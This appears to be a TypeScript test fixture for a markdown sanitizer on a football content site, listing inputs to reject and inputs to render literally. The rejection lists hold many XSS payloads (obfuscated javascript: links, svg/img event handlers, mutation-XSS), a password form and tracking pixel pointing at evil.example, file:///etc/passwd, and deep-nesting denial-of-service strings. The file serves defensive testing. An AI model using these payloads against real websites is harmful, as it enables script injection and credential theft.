/** A file around a text. */
export const fileOf = (markdown: string, fields: Record<string, string> = {}): string => {
  const front = {
    key: "hostile",
    lang: "en",
    sport: "football",
    category: "guides",
    title: "A title of some length",
    summary: "A summary of twenty characters or more.",
    tags: "[rules]",
    ...fields,
  };
  const lines = Object.entries(front).map(([name, value]) => `${name}: ${value}`);
  return `---\n${lines.join("\n")}\n---\n${markdown}\n`;
};

const SCRIPT_ADDRESSES = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java&#115;cript:alert(1)",
  "&#106;avascript:alert(1)",
  "javascript&colon;alert(1)",
  "java%73cript:alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=alert(1)>",
  "blob:https://evil.example/1",
  "file:///etc/passwd",
  "//evil.example",
  "/\\evil.example",
  "\\\\evil.example",
  "https:evil.example",
  "https://user:secret@evil.example/",
  "https://localhost/",
  "ftp://evil.example/a",
  "mailto:a@evil.example",
  "intent://evil.example#Intent;end",
  "view-source:https://evil.example",
  "en/football/matches",
  "../../admin",
  "?q=1",
];

const TAGS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<scr\nipt>alert(1)</scr\nipt>",
  "<svg onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<style>*{display:none}</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror=alert(1) />",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<form action=https://evil.example><input name=password></form>",
  "<a href=javascript:alert(1)>x</a>",
  "<b onmouseover=alert(1)>x</b>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<textarea><script>alert(1)</script></textarea>",
  "<title><img src=x onerror=alert(1)></title>",
  "<xss style=x:expression(alert(1))>",
  "<?xml version='1.0'?><x/>",
  "<!DOCTYPE html>",
  "<!-- --><script>alert(1)</script>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<div>a</div>",
  "<br>",
  "a <u>b</u> c",
  "> <script>alert(1)</script>",
  "- <img src=x onerror=alert(1)>",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "## <svg onload=alert(1)>",
  "**<script>alert(1)</script>**",
  "[<img src=x onerror=alert(1)>](https://a.example)",
];

const CHARACTERS = [
  "a\u0000b",
  "a\u0008b",
  "a\u000bb",
  "a\u001bb",
  "a\u007fb",
  "a\u0085b",
  "a\u200eb",
  "a\u200fb",
  "a\u2028b",
  "a\u202eevil",
  "a\u202ab",
  "a\u2066b\u2069",
  "a\ufeffb",
  "a\ufff9b",
  "a\uffffb",
  "a\ud800b",
  "a\udc00b",
  "a\u{e0041}b",
];

const NESTING = [
  `${"> ".repeat(5_000)}a`,
  `${"- ".repeat(5_000)}a`,
  `${"1. ".repeat(5_000)}a`,
  Array.from({ length: 40 }, (_, depth) => `${"  ".repeat(depth)}- a`).join("\n"),
  Array.from({ length: 20 }, (_, depth) => `${">".repeat(depth + 1)} a`).join("\n"),
  "[".repeat(20_000),
  `${"[a](".repeat(10_000)}`,
  "*a ".repeat(20_000),
  "`".repeat(5_000),
  "a".repeat(60_001),
  " ".repeat(70_001),
  "_".repeat(2_500),
];

const FORMS = [
  "# A heading of the first rank",
  "![a picture](https://evil.example/pixel.png)",
  "![a picture](data:image/png;base64,AAAA)",
  "- [ ] a task",
  "",
  "[x]: javascript:alert(1)\n\n[x]",
  "[x][y]\n\n[y]: data:text/html,x",
  "<javascript:alert(1)>",
];

/** Texts that are refused, each for its own reason. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...TAGS,
  ...SCRIPT_ADDRESSES.map((address) => `A [link](<${address}>) of no good.`),
  ...CHARACTERS,
  ...NESTING,
  ...FORMS,
];

/** Texts that are accepted and rendered literally. */
export const HARMLESS_TEXTS: readonly [text: string, html: string][] = [
  ["`<script>alert(1)</script>`", "<p><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></p>\n"],
  ["<img/src=x/onerror=alert(1)>", "<p>&lt;img/src=x/onerror=alert(1)&gt;</p>\n"],
  ["1 < 2 & 3 > 2", "<p>1 &lt; 2 &amp; 3 &gt; 2</p>\n"],
  ['"><b x=', "<p>&quot;&gt;&lt;b x=</p>\n"],
  ["&lt;script&gt;", "<p>&lt;script&gt;</p>\n"],
  ['[a](/en/news "x\\" onclick=alert(1)")', '<p><a href="/en/news" title="x&quot; onclick=alert(1)">a</a></p>\n'],
  ["[a](https://a.example/?x=1&y=2)", '<p><a href="https://a.example/?x=1&amp;y=2">a</a></p>\n'],
  ["\u1780\u200b\u1781", "<p>\u1780\u200b\u1781</p>\n"],
];
